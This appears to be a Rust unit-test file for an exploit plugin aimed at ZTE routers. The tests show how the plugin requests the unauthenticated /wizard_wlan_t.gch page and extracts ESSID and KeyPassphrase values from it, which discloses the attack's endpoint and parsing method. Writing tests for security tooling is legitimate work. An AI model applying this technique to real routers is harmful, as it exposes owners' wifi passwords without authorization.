use modshell::get_plugin;
use modshell::plugin::Module;

#[test]
fn fresh_module_presets_rport() {
    let m = get_plugin();
    assert_eq!(m.get("rport".to_string()), "80");
    assert_eq!(m.get("rhost".to_string()), "null");
}

#[test]
fn set_then_get_reads_back() {
    let mut m = get_plugin();
    m.set("rhost".to_string(), "10.1.2.3".to_string());
    assert_eq!(m.get("rhost".to_string()), "10.1.2.3");
}

#[test]
fn second_set_wins_round_trip() {
    let mut m = get_plugin();
    m.set("k".to_string(), "v1".to_string());
    m.set("k".to_string(), "v2".to_string());
    assert_eq!(m.get("k".to_string()), "v2");
}

#[test]
fn unknown_keys_are_accepted_and_stored() {
    let mut m = get_plugin();
    m.set("whatever".to_string(), "yes".to_string());
    assert_eq!(m.get("whatever".to_string()), "yes");
    assert_eq!(m.get("other".to_string()), "null");
}

#[test]
fn declared_options_in_order() {
    let m = get_plugin();
    let rows = m.options();
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0].key, "rport");
    assert_eq!(rows[0].description, "remote target port");
    assert!(rows[0].optional);
    assert_eq!(rows[1].key, "rhost");
    assert_eq!(rows[1].description, "remote target host");
    assert!(!rows[1].optional);
}

#[test]
fn help_text_is_fixed() {
    let m = get_plugin();
    assert_eq!(
        m.help(),
        "Exploit that targets ZTE routers' unauthorized wifi password disclosure vulnerability"
    );
}

#[test]
fn run_needs_rhost() {
    let m = get_plugin();
    assert_eq!(m.run().unwrap_err(), "exploit failed: rhost was not set.");
}

#[test]
fn run_builds_wizard_url() {
    let mut m = get_plugin();
    m.set("rhost".to_string(), "router.lan".to_string());
    assert_eq!(m.run().unwrap().url, "http://router.lan:80/wizard_wlan_t.gch");
    m.set("rport".to_string(), "8080".to_string());
    assert_eq!(m.run().unwrap().url, "http://router.lan:8080/wizard_wlan_t.gch");
}

#[test]
fn conclude_reports_names_and_passphrases() {
    let m = get_plugin();
    let page = "var x;\nTransfer_meaning('ESSID','HomeNet');\nTransfer_meaning('KeyPassphrase','hunter2');\n";
    let fs = m.conclude(page);
    assert_eq!(fs.len(), 2);
    assert_eq!(fs[0].label, "ESSID");
    assert_eq!(fs[0].value, "HomeNet");
    assert_eq!(fs[1].label, "PASSW");
    assert_eq!(fs[1].value, "hunter2");
}

#[test]
fn conclude_skips_empty_values() {
    let m = get_plugin();
    let page = "Transfer_meaning('ESSID','');Transfer_meaning('KeyPassphrase','');";
    let fs = m.conclude(page);
    assert_eq!(fs.len(), 0);
}

#[test]
fn conclude_orders_all_names_before_passphrases() {
    let m = get_plugin();
    let page = "Transfer_meaning('KeyPassphrase','p1');Transfer_meaning('ESSID','a');Transfer_meaning('ESSID','b');";
    let fs = m.conclude(page);
    assert_eq!(fs.len(), 3);
    assert_eq!((fs[0].label.as_str(), fs[0].value.as_str()), ("ESSID", "a"));
    assert_eq!((fs[1].label.as_str(), fs[1].value.as_str()), ("ESSID", "b"));
    assert_eq!((fs[2].label.as_str(), fs[2].value.as_str()), ("PASSW", "p1"));
}

#[test]
fn conclude_value_stops_at_closing_text() {
    let m = get_plugin();
    let page = "Transfer_meaning('ESSID','a');extra');";
    let fs = m.conclude(page);
    assert_eq!(fs.len(), 1);
    assert_eq!(fs[0].value, "a");
}

#[test]
fn conclude_ignores_unclosed_or_broken_lines() {
    let m = get_plugin();
    let page = "Transfer_meaning('ESSID','never closed\nTransfer_meaning('ESSID','ok');";
    let fs = m.conclude(page);
    assert_eq!(fs.len(), 1);
    assert_eq!(fs[0].value, "ok");
}
